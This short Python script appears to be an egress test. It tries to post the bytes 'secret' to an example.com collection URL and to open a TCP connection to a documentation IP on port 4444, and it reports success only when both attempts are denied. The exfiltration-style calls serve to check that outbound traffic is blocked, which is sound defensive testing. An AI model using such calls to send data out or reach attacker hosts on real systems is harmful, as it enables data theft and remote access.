"""Tries to send data out, two ways, and reports how each attempt ended."""

import socket
import urllib.request

for name, attempt in {
    "https": lambda: urllib.request.urlopen("https://example.com/collect", data=b"secret", timeout=5),
    "tcp": lambda: socket.create_connection(("203.0.113.7", 4444), timeout=5),
}.items():
    try:
        attempt()
    except OSError as error:
        print(f"{name}: denied: {error}")
    else:
        raise SystemExit(f"{name}: went out")
